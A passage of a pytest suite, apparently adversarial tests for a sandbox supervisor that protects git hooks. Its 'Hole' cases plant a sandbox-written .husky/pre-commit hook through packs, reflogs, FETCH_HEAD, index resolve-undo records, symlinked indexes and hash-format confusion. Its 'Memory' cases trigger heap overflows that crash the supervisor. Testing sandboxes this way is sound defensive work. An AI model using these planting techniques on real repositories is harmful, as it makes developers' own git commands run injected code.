    commit_after(box, home, REWRITE["discard-edit"], blob)


def test_history_packed_during_the_run(box):
    """Hole: the same `listed`, read by gitobj_is_new() (gitobj.c:1018): a
    commit in a pack made during the run is never "made during the run".
    The sandbox commits its hook, then the host's on top (round one's
    test_protected_hook_in_a_commit_below_the_tip), then `git gc`: both
    commits are in a new pack only (`git repack -ad`: what `git gc` packs),
    the walk stops at the tip (it passes),
    and the host's `git reset --hard HEAD~1` writes the hook."""
    home, _ = project(box)
    r = box.run(["sh", "-c", INSIDE_GIT +
                 "b=$(%s) && good=$(git rev-parse HEAD:.husky/pre-commit) && "
                 "git update-index --cacheinfo 100755,$b,.husky/pre-commit && "
                 "git commit -qnm 'lint config' && "
                 "git update-index --cacheinfo 100755,$good,.husky/pre-commit && "
                 "echo y > f && git add f && git commit -qnm more && "
                 # `git gc`'s packing (without what it writes in the
                 # read-only objects/info)
                 "git repack -adnq && git prune-packed && "
                 "test -z \"$(find .git/objects -path '*/[0-9a-f][0-9a-f]/*' -type f)\" && "
                 "git cat-file -p HEAD~1:.husky/pre-commit | grep -q MARK && echo planted"
                 % HOOK], policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
    assert "planted" in r.stdout, r.stdout + r.stderr
    commit_after(box, home, "git reset -q --hard HEAD~1", "HEAD~1:.husky/pre-commit")


def test_guard_loose_blob_read_at_the_start_rewritten_in_place(box, request):
    """Guard: the same in-place rewrite of HEAD's hook blob, one read at
    the start: its mode is refused first (the end would hash it too: its
    file's ctime moved)."""
    home, blob = project(box)
    in_place(box, request, home, "inplace-loose", "HEAD:.husky/pre-commit")
    commit_after(box, home, REWRITE["discard-edit"], blob)


def test_pack_data_rewritten_in_place(box, request):
    """Hole: the host's objects in the pack of its `git gc`; the entry of
    the other branch's hook overwritten in the .pack, the .idx kept."""
    home, _ = project(box)
    h = host(box, ["sh", "-c", OLD + " && git gc -q"], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    in_place(box, request, home, "inplace-pack", "old:.husky/pre-commit")
    commit_after(box, home, "git checkout -q old", "old:.husky/pre-commit")


@pytest.mark.parametrize("date", [None, "@4102444800 +0000", "@100000 +0000"],
                         ids=["now", "future", "1970"])
def test_history_planted_in_an_earlier_run(box, date):
    """Hole: the history walk stopped at the first commit older than the
    run; an earlier run made it, unreferenced, over one with the hook.
    The walk now goes on below an older commit until it reaches one
    reachable from the host's refs at the start (gitreach.c), whatever
    date the sandbox gave its commits: too new stops the host's walk at
    once, too old makes it read the host's whole history.  Fails on
    78b65a2 in every mode (a strict expected failure there)."""
    home, _ = project(box)
    forge = box.write("bin/forge2.py", FORGE2)
    env = dict(GIT_ENV, HOME=home)
    if date:
        env.update(GIT_COMMITTER_DATE=date, GIT_AUTHOR_DATE=date)
    r = box.run(["/usr/bin/python3", forge, "earlier-run-1", EVIL], policy=box.policy(""),
                env=env)
    assert "planted" in r.stdout.split(), r.stdout + r.stderr
    top = [l.split()[1] for l in r.stdout.splitlines() if l.startswith("top ")][0]
    assert "protected path" not in r.stderr, r.stderr
    plant2(box, home, "earlier-run-2", top)
    commit_after(box, home, "git reset -q --hard HEAD~2", "HEAD~2:.husky/pre-commit")


@pytest.mark.parametrize("base", ["HEAD~2", "v1", "old"])
def test_guard_commit_on_an_older_commit_of_the_hosts(box, base):
    """Guard: a commit made inside on an older commit of the host's (two
    below HEAD, an annotated tag's in packed-refs, another branch's
    loose tip) is kept: the walk stops where the host's history is."""
    home = husky_project(box, extra=(
        " && echo 1 > a && git add a && git commit -qm a1 && git tag -a v1 -m v1 && "
        "echo 2 > a && git commit -qam a2 && git branch old && "
        "echo 3 > a && git commit -qam a3 && git pack-refs --all && "
        "git checkout -q old && echo 4 > a && git commit -qam a4 && git checkout -q -"))
    r = box.run(["sh", "-c", INSIDE_GIT + "git checkout -q -B work %s && echo in > b && "
                 "git add b && git commit -qnm inside && echo made" % base],
                policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
    assert "made" in r.stdout, r.stdout + r.stderr
    log = host(box, ["git", "log", "--format=%s", "-2", "work"], home, cwd=box.work,
               env=GIT_ENV)
    assert log.stdout.split() == ["inside", {"HEAD~2": "a1", "v1": "a1", "old": "a4"}[base]], \
        log.stdout + log.stderr + r.stderr
    assert "protect" not in r.stderr, r.stderr


def test_large_loose_object_is_not_passed_over(box):
    """Hole: a new loose file over 64 MiB (a forged copy of the other
    branch's hook, padded after an `exit`, zlib level 0) is read by no one
    at the end: scan_loose() gets -E2BIG, unchecked() says it, and it
    stays.  `git checkout old` writes the sandbox's hook."""
    home, _ = project(box)
    h = host(box, ["sh", "-c", OLD], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    plant2(box, home, "large-loose", "old:.husky/pre-commit")
    commit_after2(box, home, "git checkout -q old", "old:.husky/pre-commit")


@pytest.mark.parametrize("part", ["head", "index"])
def test_guard_linked_worktree_is_not_the_sandboxs(box, part):
    """Guard: the host's linked worktree (made before the run, outside the
    project) keeps its HEAD and index in .git/worktrees/wt, which the end
    does not read; the sandbox cannot write them (read-only there).  Were
    it to, the host's `git reset --hard` (HEAD detached at the sandbox's
    commit) or `git restore .` (its hook staged) there would write the
    sandbox's hook."""
    home, _ = project(box)
    h = host(box, ["git", "worktree", "add", "-q", os.path.join(home, "wt"), "-b", "topic"],
             home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    forge = box.write("bin/forge2.py", FORGE2)
    r = box.run(["/usr/bin/python3", forge, "worktree-" + part, EVIL, "wt"],
                policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
    assert "ran" in r.stdout.split(), r.stdout + r.stderr
    assert "planted" not in r.stdout.split(), r.stdout + r.stderr
    assert "Read-only file system" in r.stderr or "ermission denied" in r.stderr, r.stderr
    commit_after(box, home, "cd \"$HOME/wt\" && git reset -q --hard" if part == "head"
                 else "cd \"$HOME/wt\" && git restore .", "HEAD")


# Where a host command finds a commit: what the sandbox writes, the host's
# command.
POINTERS = {
    # `git pull`'s second half
    "fetch-head": "git merge -q --ff-only FETCH_HEAD",
    # a bisect the host finds in progress, ended
    "bisect-reset": "git bisect reset",
    "bisect-reset-abbrev": "git bisect reset",
    # the sandbox's branch, checked out to look at it (its name as `git
    # branch` lists it)
    "deep-branch": "git checkout -q " + "/".join("abcdefghijklmnopq"),
    "packed-link": "git checkout -q lint",
    # the host's worktree reset to its branch
    "refs-link": "git reset -q --hard",
}
JUDGED = {
    # a rebase the host would find in progress (git status says so),
    # abandoned: its state is moved aside at the end
    "rebase-abort": "git rebase --abort",
    # a release tag (annotated), loose or packed with its peeled line
    "tag": "git checkout -q v1.0",
    "tag-packed": "git checkout -q v1.0",
    # a remote branch: `git checkout NAME` makes a branch tracking it
    "remote": "git checkout -q feature",
}
NOT_THERE = ("No rebase in progress",)


@pytest.mark.parametrize("kind", sorted(POINTERS))
def test_commit_named_outside_the_refs(box, kind):
    """Hole: a commit of the sandbox's named in FETCH_HEAD (`git merge
    FETCH_HEAD`, `git pull`'s second half, fast-forwards to it), or in
    BISECT_START (`git bisect reset` checks it out), files githeads.c does
    not read; or in a loose branch deeper than walk_refs() goes
    (REFS_DEPTH, 16 directories below refs/: git has no such limit)."""
    home, _ = project(box)
    if kind == "refs-link":
        forge = box.write("bin/forge2.py", FORGE2)
        r = box.run(["/usr/bin/python3", forge, "pointer", EVIL, kind],
                    policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
        # with namespaces .git/refs is a mount of the view's: not moved
        assert "planted" in r.stdout.split() or "refs not moved" in r.stderr, r.stderr
    else:
        plant2(box, home, "pointer", kind)
    commit_after(box, home, POINTERS[kind], "HEAD")


@pytest.mark.parametrize("kind", sorted(JUDGED))
def test_guard_commit_named_in_judged_places(box, kind):
    """Guard: the same in a rebase's state (moved aside at the end), an
    annotated tag (loose or packed), a remote branch (judged, set back)."""
    home, _ = project(box)
    plant2(box, home, "pointer", kind)
    mark = os.path.join(home, "MARK")
    h = host(box, ["sh", "-c", JUDGED[kind] + " ; echo y >> f && git commit -qam second"],
             home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    assert not os.path.exists(mark), h.stdout + h.stderr


def test_packed_refs_unterminated_last_line(box):
    """Memory: remove_packed() (githeads.c) copies each line kept and a
    newline into malloc(n + 1), then a NUL: with nothing dropped and the
    last line unterminated, kn reaches n + 1 and kept[n + 1] is written,
    one byte past the buffer: the next chunk's size loses its PREV_INUSE
    bit, and free(kept) aborts the supervisor ("double free or corruption
    (!prev)").  Triggered by a new orphan branch with the sandbox's hook
    (loose), removed, then looked for in packed-refs.  What the end had
    not judged yet stays: HEAD detached at a commit with the hook; once
    the host mends packed-refs' last line (git refuses it unterminated),
    `git reset --hard` writes the hook.
    FAILS without namespaces (root-nons, user-nons): with them the view
    does not carry such a packed-refs back."""
    home, _ = project(box)
    r = plant2(box, home, "packed-unterminated")
    assert "lint" in r.stderr and "removed" in r.stderr, r.stderr
    # git refuses the packed-refs until its last line is ended: mended,
    # then the host's worktree reset to HEAD
    commit_after(box, home, "{ [ -z \"$(tail -c1 .git/packed-refs)\" ] || "
                 "echo >> .git/packed-refs; } && git reset -q --hard", "HEAD")
    for bad in ("AddressSanitizer", "free()", "corrupted", "double free"):
        assert bad not in r.stderr, r.stderr


def test_stash_list_unterminated_last_line(box):
    """Memory: check_stash_log() (githeads.c:942-1011) has remove_packed()'s
    bug: malloc(n + 1), each kept line and a newline, then kept[kn] =
    '\\0'; when no entry is dropped but an OLD field is rewritten, and
    the last line has no newline, that is kept[n + 1].  A stash list of n
    % 16 == 7 bytes aborts the supervisor before ORIG_HEAD and HEAD are
    judged: HEAD, detached at the sandbox's commit, stays, and the host's
    `git reset --hard` writes its hook."""
    home, _ = project(box)
    r = plant2(box, home, "stashlog-unterminated")
    commit_after(box, home, "git reset -q --hard", "HEAD")
    for bad in ("AddressSanitizer", "free()", "corrupted", "double free"):
        assert bad not in r.stderr, r.stderr
    assert r.returncode >= 0, "the supervisor was killed by signal %d" % -r.returncode


def test_hook_in_the_index_resolve_undo(box):
    """Hole: the index's resolve-undo records (REUC extension), which
    githeads.c does not read (gitlinks.c parses entries and TREE only):
    the host's entries kept, a record naming the sandbox's hook as both
    sides of a conflict at .husky/pre-commit.  `git checkout -m -- FILE`
    (make the file's conflict again, to resolve it anew) merges the two,
    alike, into the sandbox's hook."""
    home, _ = project(box)
    plant2(box, home, "reuc")
    commit_after(box, home, "git checkout -m -- .husky/pre-commit", "HEAD")


@pytest.mark.parametrize("op", ["git checkout -q -", "git reset -q --hard HEAD@{1}"])
def test_hook_in_the_head_reflog(box, op):
    """Hole: a commit of the sandbox's in HEAD's reflog only; `git
    checkout -` goes back to it, `git reset --hard HEAD@{1}` too."""
    home, _ = project(box)
    plant2(box, home, "reflog")
    commit_after(box, home, op, "@{-1}:.husky/pre-commit")


def project256(box):
    """project()'s repository, its object names SHA-256."""
    home = box.path("hosthome")
    os.mkdir(home)
    chown_tree(box, home)
    h = host(box, ["sh", "-c",
                   "git init -q --object-format=sha256 && git config core.hooksPath .husky && "
                   "echo x > f && git add f && git commit -qm first && mkdir .husky && "
                   "printf '#!/bin/sh\\ntrue\\n' > .husky/pre-commit && "
                   "chmod 755 .husky/pre-commit && touch -d 2020-01-01 .husky/pre-commit && "
                   "git add -A && git commit -qm hooks"], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stderr
    return home


def test_index_a_link(box):
    """Hole: index_bad() (githeads.c) opens the index following no link,
    and a link it cannot open counts as unchanged; git follows it.  The
    sandbox's hook staged in a file of the worktree, .git/index a link to
    it: `git checkout -- .` writes the hook."""
    home, _ = project(box)
    plant2(box, home, "index-link")
    commit_after(box, home, "git checkout -- .", "HEAD")


def test_sha256_index_read_as_sha1(box):
    """Hole: index_parse() (gitlinks.c:291-392) tries SHA-1's layout
    first and takes the first that parses; githeads.c's on_entry() then
    passes over every entry whose id is not the repository's size.  In a
    SHA-256 repository, the sandbox's index (its hook staged) made to
    parse with SHA-1's layout too (a blob ground, ~2^21 tries, for its id
    bytes; stat fields chosen): the end reads no entry at a protected
    path.  The host's `git checkout -- .` (discarding what it has not
    staged) writes the sandbox's hook."""
    home = project256(box)
    plant2(box, home, "sha256-index", "ground")
    commit_after(box, home, "git checkout -- .", "HEAD")


def test_guard_sha256_index_not_ground(box):
    """Guard, the control of test_sha256_index_read_as_sha1: the same
    index, its blob not ground, is read as SHA-256's and put back."""
    home = project256(box)
    r = plant2(box, home, "sha256-index", "plain")
    assert "index" in r.stderr and "put back" in r.stderr, r.stderr
    commit_after(box, home, "git checkout -- .", "HEAD")


@pytest.mark.parametrize("way", ["loose", "branch:lint"])
def test_guard_sha256_repository(box, way):
    """Guard: round one's forged loose blob (`git checkout -- FILE` after
    an edit) and new branch with the sandbox's hook (`git checkout lint`)
    in a repository whose object names are SHA-256."""
    home = project256(box)
    forge = box.write("bin/forge.py", FORGE.replace("body[at + 20:]", "body[at + 32:]"))
    r = box.run(["/usr/bin/python3", forge, way, EVIL], policy=box.policy(""),
                env=dict(GIT_ENV, HOME=home))
    assert "planted" in r.stdout.split(), r.stdout + r.stderr
    op = {"loose": REWRITE["discard-edit"], "branch:lint": "git checkout -q lint"}[way]
    commit_after(box, home, op, "HEAD")
